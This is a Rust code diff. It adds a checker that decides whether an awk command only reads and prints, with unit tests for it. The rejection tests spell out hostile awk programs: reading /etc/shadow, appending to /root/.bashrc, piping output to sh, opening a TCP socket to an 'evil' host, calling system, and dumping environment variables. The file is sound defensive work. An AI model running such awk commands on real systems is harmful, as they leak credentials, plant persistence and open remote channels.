@@ -262,6 +262,116 @@ fn awk_environ(call: &Call<'_>) -> bool {
     matches!(awk_program(call), AwkProgram::Text(w) if w.text.contains("ENVIRON"))
 }
 
+/// Whether an awk invocation only reads and prints: a literal program, only `-F`/`-v` options,
+/// and a program text with no way to run a command, write or read a file of its choosing, or
+/// read the environment: no `system`, no pipe (`|`, `|&`), no `getline`, no `ENVIRON`, no gawk
+/// directive (`@include`, `@load`), and no `>` that could be an output redirection (a `>` in a
+/// pattern, inside parentheses, or in `>=` is a comparison). Regex and string literals are
+/// skipped, so `/a|b/` and `"x > y"` are text.
+pub(crate) fn awk_reads_only(call: &Call<'_>, program: &Word) -> bool {
+    let options_ok = call.opts.shorts.iter().all(|c| matches!(c, 'F' | 'v'))
+        && call
+            .opts
+            .longs
+            .iter()
+            .all(|(name, _)| matches!(*name, "field-separator" | "assign"));
+    options_ok && program.is_static() && awk_text_reads_only(&program.text)
+}
+
+/// See [`awk_reads_only`]: the program text alone.
+pub(crate) fn awk_text_reads_only(code: &str) -> bool {
+    const CODE_WORDS: &[&str] = &["system", "getline", "ENVIRON", "PROCINFO", "@"];
+    let b = code.as_bytes();
+    let (mut braces, mut parens, mut i) = (0usize, 0usize, 0usize);
+    // Where an operand is expected, `/` starts a regex; after an operand, it divides.
+    let mut operand_expected = true;
+    let mut plain = String::with_capacity(code.len());
+    while i < b.len() {
+        let c = b[i];
+        match c {
+            b'"' => {
+                i += 1;
+                while i < b.len() && b[i] != b'"' {
+                    i += if b[i] == b'\\' { 2 } else { 1 };
+                }
+                operand_expected = false;
+            }
+            b'/' if operand_expected => {
+                i += 1;
+                while i < b.len() && b[i] != b'/' {
+                    if b[i] == b'\n' {
+                        return false;
+                    }
+                    i += if b[i] == b'\\' { 2 } else { 1 };
+                }
+                operand_expected = false;
+            }
+            b'#' => {
+                while i < b.len() && b[i] != b'\n' {
+                    i += 1;
+                }
+                continue;
+            }
+            b'{' => {
+                braces += 1;
+                operand_expected = true;
+            }
+            b'}' => {
+                braces = braces.saturating_sub(1);
+                operand_expected = true;
+            }
+            b'(' => {
+                parens += 1;
+                operand_expected = true;
+            }
+            b')' => {
+                parens = parens.saturating_sub(1);
+                operand_expected = false;
+            }
+            b'|' => {
+                if b.get(i + 1) == Some(&b'|') {
+                    i += 1;
+                    operand_expected = true;
+                } else {
+                    return false;
+                }
+            }
+            b'>' => {
+                if b.get(i + 1) == Some(&b'=') {
+                    i += 1;
+                } else if braces > 0 && parens == 0 {
+                    return false;
+                }
+                operand_expected = true;
+            }
+            b'<' => {
+                // `getline < file` is refused by name; `<` elsewhere compares.
+                operand_expected = true;
+            }
+            c if c.is_ascii_alphanumeric() || c == b'_' || c == b'$' => {
+                plain.push(c as char);
+                operand_expected = false;
+                i += 1;
+                continue;
+            }
+            c if c.is_ascii_whitespace() => {
+                if c == b'\n' {
+                    operand_expected = true;
+                }
+                plain.push(' ');
+                i += 1;
+                continue;
+            }
+            b'@' => plain.push('@'),
+            b'`' => return false,
+            _ => operand_expected = true,
+        }
+        plain.push(' ');
+        i += 1;
+    }
+    !CODE_WORDS.iter().any(|w| plain.contains(w))
+}
+
 /// `python -m base64 -d`, `python -m codecs`: modules that decode what they are given.
 pub(crate) fn module_decodes(args: &[Word]) -> bool {
     let module = args
@@ -537,6 +647,44 @@ mod tests {
         assert!(code_signals("open('x','w').write('y')").write);
         assert!(code_signals("exec(__import__('base64').b64decode('aWQ='))").decode_eval);
         assert!(!code_signals("print(base64.b64encode(b'x'))").decode_eval);
+    }
+
+    #[test]
+    fn awk_programs_that_only_read() {
+        for code in [
+            "{print $1}",
+            "{print $2, $11}",
+            "NR>1 {sum += $3} END {print sum}",
+            "$3 > 100",
+            "$3 >= 100 {print}",
+            "{ if ($3 > 100) print $1 }",
+            "/error|warn/ {n++} END {print n}",
+            "{ a = $1 || $2; print a }",
+            "BEGIN {FS=\",\"} {print $1 \" > \" $2}",
+            "{printf \"%s\\n\", $1}",
+            "length($0) > 80",
+            "{ x = $2 / 2; print x }",
+        ] {
+            assert!(awk_text_reads_only(code), "{code}");
+        }
+        for code in [
+            "{print $1 > \"out\"}",
+            "{print >> \"/root/.bashrc\"}",
+            "{printf(\"%s\", $1) > \"f\"}",
+            "{print | \"sh\"}",
+            "{print |& \"/inet/tcp/0/evil/1\"}",
+            "BEGIN {system(\"id\")}",
+            "BEGIN {while ((getline l < \"/etc/shadow\") > 0) print l}",
+            "BEGIN {\"id\" | getline x; print x}",
+            "BEGIN {for (k in ENVIRON) print k, ENVIRON[k]}",
+            "@include \"x.awk\"",
+            "@load \"ext\"",
+            "BEGIN { s = \"sys\" \"tem\"; @s(\"id\") }",
+            "{ print $1 > out }",
+            "/a\nb/",
+        ] {
+            assert!(!awk_text_reads_only(code), "{code}");
+        }
     }
 
     #[test]
